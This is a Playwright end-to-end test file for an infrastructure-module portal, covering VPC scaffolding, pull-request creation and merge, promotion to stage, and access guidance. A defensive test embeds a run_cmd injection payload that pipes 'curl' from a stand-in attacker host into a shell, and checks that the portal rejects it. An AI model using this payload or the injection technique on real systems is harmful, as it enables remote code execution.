import { expect, test, type Page } from "@playwright/test";
import { e2eUrls } from "../support/stack-config";
import { expectAccessible } from "../support/expect-accessible";
import { signInAs } from "../support/sign-in";

const CONSUMER_REPO = "acme-platform/payments-infra";
const UNIT = "edge-vpc";

/** The catalogue is filled by a background sync when the stack starts: search until the module shows. */
async function openModuleFromCatalogue(page: Page, query: string, name: string): Promise<void> {
  await expect(async () => {
    await page.goto("/catalogue");
    await page.getByTestId("catalogue-search").fill(query);
    await expect(page.getByTestId("module-link").filter({ hasText: new RegExp(`^${name}$`) }).first()).toBeVisible({ timeout: 3_000 });
  }).toPass({ timeout: 60_000, intervals: [1_000, 2_000, 3_000] });
  // Search-as-you-type may still re-render the results when the link is clicked; click again
  // if the first click landed on a card that was being replaced.
  await expect(async () => {
    await page.getByTestId("module-link").filter({ hasText: new RegExp(`^${name}$`) }).first().click({ timeout: 5_000 });
    await expect(page.getByRole("heading", { level: 1, name: new RegExp(`^${name}`) })).toBeVisible({ timeout: 5_000 });
  }).toPass({ timeout: 30_000 });
}

test("alice scaffolds a VPC into payments dev, the PR merges, and she promotes it to stage", async ({ page, request }) => {
  test.setTimeout(240_000);
  await signInAs(page, "alice");

  // Catalogue → module → "Use this module"
  await openModuleFromCatalogue(page, "vpc", "vpc");
  await page.getByRole("link", { name: "Use this module" }).click();
  await expect(page).toHaveURL(/\/scaffold\/new\?/);
  await expect(page.getByRole("heading", { level: 1, name: /^Scaffold vpc 2\.0\.0/ })).toBeVisible();

  // The attack from the security review, posted straight to the API with alice's session: a
  // run_cmd as an ordinary input, then as a "reference". Both are refused and no PR opens.
  const versionId = new URL(page.url()).searchParams.get("versionId");
  const listPulls = async () => (await (await request.get(`${e2eUrls.github}/__emulator/pulls?repo=${CONSUMER_REPO}`)).json()) as unknown[];
  const pullsBefore = (await listPulls()).length;
  const attack = { __expr: 'run_cmd("sh", "-c", "curl -s http://attacker.example/x | sh")' };
  const post = (extra: Record<string, unknown>) =>
    page.request.post("/api/scaffolds", {
      data: { workload: "payments", moduleVersionId: versionId, env: "dev", region: "eu-west-1", unitName: "attack", values: { name: attack }, ...extra },
    });
  const plain = await post({ idempotencyKey: `e2e-attack-plain-${Date.now()}` });
  expect(plain.status()).toBe(422);
  // (The other inputs are missing too; only name's error matters here.)
  expect((await plain.json()).error.fieldErrors).toContainEqual({ path: "name", message: expect.stringMatching(/^This field takes a plain value/) });
  const asReference = await post({ idempotencyKey: `e2e-attack-ref-${Date.now()}`, references: ["name"] });
  expect(asReference.status()).toBe(422);
  expect((await asReference.json()).error.fieldErrors).toContainEqual({ path: "name", message: expect.stringMatching(/^The function run_cmd\(\) is not allowed/) });
  expect((await listPulls()).length).toBe(pullsBefore);

  // Where: alice is a member of payments only.
  await expect(page.getByLabel("Workload")).toHaveValue("payments");
  await page.getByLabel("Environment").selectOption("dev");
  await page.getByLabel("Region").selectOption("eu-west-1");
  await page.getByLabel("Unit name").fill(UNIT);
  await expect(page.getByTestId("unit-path")).toHaveText(`dev/eu-west-1/${UNIT}/terragrunt.hcl`);

  // A field switched to "reference" takes only what the portal writes: run_cmd is refused in the browser.
  await page.getByRole("button", { name: "Use a reference for Name", exact: true }).click();
  await page.locator("#field-name").fill('run_cmd("sh", "-c", "id")');
  await page.getByRole("button", { name: "Preview", exact: true }).click();
  await expect(page.locator("#field-name-error")).toContainText("The function run_cmd() is not allowed");
  await page.getByRole("button", { name: "Use a plain value" }).click();

  // Inputs: plain fields, a map(object) group, a nested object and map rows, with one invalid CIDR.
  await page.locator("#field-name").fill("payments-edge");
  await page.locator("#field-cidr_block").fill("10.20.0.0/33");
  await page.getByRole("button", { name: "Add subnet", exact: true }).click();
  const subnetsGroup = page.getByRole("group", { name: /^Subnets subnets required/ });
  await subnetsGroup.getByLabel(/^Key/).fill("private-a");
  const subnet = page.getByRole("group", { name: "Subnets private-a" });
  await subnet.getByLabel(/^CIDR block cidr_block/).fill("10.20.1.0/24");
  await subnet.getByLabel(/^AZ az/).fill("eu-west-1a");
  await subnet.getByLabel(/^Tier tier/).fill("private");
  const flowLogs = page.getByRole("group", { name: /^Flow logs flow_logs/ });
  await flowLogs.getByLabel(/^Enabled enabled/).check();
  await flowLogs.getByLabel(/^Retention in days retention_in_days/).fill("30");
  await page.getByRole("button", { name: "Add tags entry", exact: true }).click();
  await page.getByLabel("Tags key 1", { exact: true }).fill("CostCentre");
  await page.getByLabel("Tags value 1", { exact: true }).fill("cc-payments");

  // The browser checks the module's validation rule and shows the error next to the field.
  await page.getByRole("button", { name: "Preview", exact: true }).click();
  const cidr = page.locator("#field-cidr_block");
  await expect(cidr).toHaveAttribute("aria-invalid", "true");
  await expect(page.locator("#field-cidr_block-error")).toHaveText("The cidr_block must be a valid IPv4 CIDR block.");
  await expect(page.getByTestId("error-summary")).toContainText("CIDR block: The cidr_block must be a valid IPv4 CIDR block.");
  await expect(page.getByTestId("scaffold-preview")).toHaveCount(0);
  await expectAccessible(page, { name: "/scaffold/new with field errors" });

  // Correct it: the field is checked again as it changes, so the error goes before the next Preview.
  await cidr.fill("10.20.0.0/16");
  await expect(cidr).not.toHaveAttribute("aria-invalid", "true");
  await expect(page.locator("#field-cidr_block-error")).toHaveCount(0);
  // Then preview: the exact file, pinned with ?ref=.
  await page.getByRole("button", { name: "Preview", exact: true }).click();
  const preview = page.getByTestId("scaffold-preview");
  await expect(preview).toBeVisible({ timeout: 20_000 });
  await expect(cidr).not.toHaveAttribute("aria-invalid", "true");
  await expect(preview.getByTestId("preview-unit-path")).toHaveText(`dev/eu-west-1/${UNIT}/terragrunt.hcl`);
  await expect(preview).toContainText("?ref=vpc/v2.0.0");
  await expect(preview).toContainText("private-a");
  await expect(preview).toContainText("cc-payments");
  await expectAccessible(page, { name: "/scaffold/new with preview", phone: true });

  // Create the PR: it opens in the consumer repo.
  await page.getByRole("button", { name: "Create pull request" }).click();
  await expect(page).toHaveURL(/\/scaffold\/[0-9a-f-]{36}$/, { timeout: 30_000 });
  await expect(page.getByTestId("scaffold-state")).toHaveAttribute("data-state", "pr_open");
  const prLink = page.getByTestId("pr-link");
  await expect(prLink).toBeVisible();
  const prNumber = Number((await prLink.textContent())?.match(/#(\d+)/)?.[1]);
  expect(prNumber).toBeGreaterThan(0);
  await expect(page.getByRole("listitem").filter({ hasText: `Pull request #${prNumber} opened` }).locator("time")).toHaveText(/^\d{1,2} [A-Z][a-z]{2} \d{4}, \d{2}:\d{2}:\d{2} UTC$/);
  await expectAccessible(page, { name: "scaffold request page", phone: true });

  // The emulator merges it; the signed webhook reaches the app; the page picks it up by polling.
  const merge = await request.post(`${e2eUrls.github}/__emulator/repos/${CONSUMER_REPO}/pulls/${prNumber}/merge`);
  expect(merge.ok()).toBe(true);
  await expect(page.getByTestId("scaffold-state")).toHaveAttribute("data-state", "merged", { timeout: 20_000 });

  // The consumption shows on the payments workload page.
  await page.getByRole("link", { name: "Payments", exact: true }).click();
  await expect(page).toHaveURL(/\/workloads\/payments$/);
  await expect(page.getByTestId("consumptions")).toContainText(`dev/eu-west-1/${UNIT}/terragrunt.hcl`);
  const unitRow = page.locator(`[data-testid="unit-row"][data-unit-path="dev/eu-west-1/${UNIT}/terragrunt.hcl"]`);
  await expect(unitRow).toContainText("consumption recorded");
  await expectAccessible(page, { name: "workload page", phone: true });

  // Promote to stage with an env-specific name: a second PR opens for stage/...
  await unitRow.getByRole("link", { name: new RegExp(`^Promote to stage: ${UNIT} \\(dev/eu-west-1\\)$`) }).click();
  await expect(page).toHaveURL(/\/workloads\/payments\/promote\?unit=/);
  await expect(page.getByTestId("promote-unit-path")).toHaveText(`stage/eu-west-1/${UNIT}/terragrunt.hcl`);
  await expect(page.locator("#field-name")).toHaveValue("payments-edge");
  await expect(page.getByText(`vpc 2.0.0 in dev/eu-west-1/${UNIT}/terragrunt.hcl`)).toBeVisible();
  await expectAccessible(page, { name: "promote page" });
  await page.locator("#field-name").fill("payments-edge-stage");
  await page.getByRole("button", { name: "Review promotion" }).click();
  await expect(page.getByTestId("promotion-review")).toContainText("Changed inputs: name");
  // The review shows the stage file against dev's, as a diff, not the inputs as JSON.
  const diff = page.getByRole("region", { name: `Changes from dev/eu-west-1/${UNIT}/terragrunt.hcl to stage/eu-west-1/${UNIT}/terragrunt.hcl` });
  await expect(diff).toContainText(`--- a/dev/eu-west-1/${UNIT}/terragrunt.hcl`);
  await expect(diff).toContainText(/\+\s+name\s+=\s+"payments-edge-stage"/);
  await expectAccessible(page, { name: "promote page (review)", phone: true });
  await page.getByRole("button", { name: "Create promotion pull request" }).click();
  await expect(page).toHaveURL(/\/scaffold\/[0-9a-f-]{36}$/, { timeout: 30_000 });
  await expect(page.getByTestId("scaffold-state")).toHaveAttribute("data-state", "pr_open");
  await expect(page.getByRole("heading", { level: 1 })).toContainText("Promote vpc 2.0.0");
  await expect(page.getByText(`stage/eu-west-1/${UNIT}/terragrunt.hcl`).first()).toBeVisible();
  const secondPr = Number((await page.getByTestId("pr-link").textContent())?.match(/#(\d+)/)?.[1]);
  expect(secondPr).not.toBe(prNumber);

  const pulls = (await (await request.get(`${e2eUrls.github}/__emulator/pulls?repo=${CONSUMER_REPO}`)).json()) as Array<{ number: number; state: string }>;
  expect(pulls.find((p) => p.number === prNumber)?.state).toBe("closed");
  expect(pulls.find((p) => p.number === secondPr)?.state).toBe("open");
});

test("dave, who is in no workload, learns from the module page whom to ask and which IdP group grants access", async ({ page, browser }) => {
  test.setTimeout(120_000);
  // Bob leads Payments through his IdP group; the portal knows him once he has signed in.
  const bobContext = await browser.newContext();
  await signInAs(await bobContext.newPage(), "bob");
  await bobContext.close();

  await signInAs(page, "dave");
  await expect(async () => {
    await page.goto("/catalogue/acme-platform/iac-modules/sqs-queue?version=1.2.0");
    await expect(page.getByTestId("no-workload-note")).toBeVisible({ timeout: 3_000 });
  }).toPass({ timeout: 60_000, intervals: [1_000, 2_000, 3_000] });
  await expect(page.getByRole("link", { name: "Use this module" })).toHaveCount(0);
  await expect(page.getByTestId("no-workload-note")).toContainText("you have no role on a workload yet");
  await page.getByRole("link", { name: "How to get access" }).click();

  await expect(page.getByRole("heading", { name: "You have no role on a workload yet" })).toBeVisible();
  await expect(page.getByTestId("access-help")).toContainText("team-<workload>");
  const payments = page.locator('[data-testid="access-help-workload"][data-slug="payments"]');
  await expect(payments).toContainText("Led by");
  await expect(payments).toContainText("Bob Baker @bob");
  await expect(payments).toContainText("builders: IdP group team-payments");
  await expect(payments).toContainText("leads: payments-leads");
  await expect(page.getByRole("button", { name: "Preview" })).toHaveCount(0);
  await expectAccessible(page, { name: "/scaffold/new (no workload)", phone: true });
});
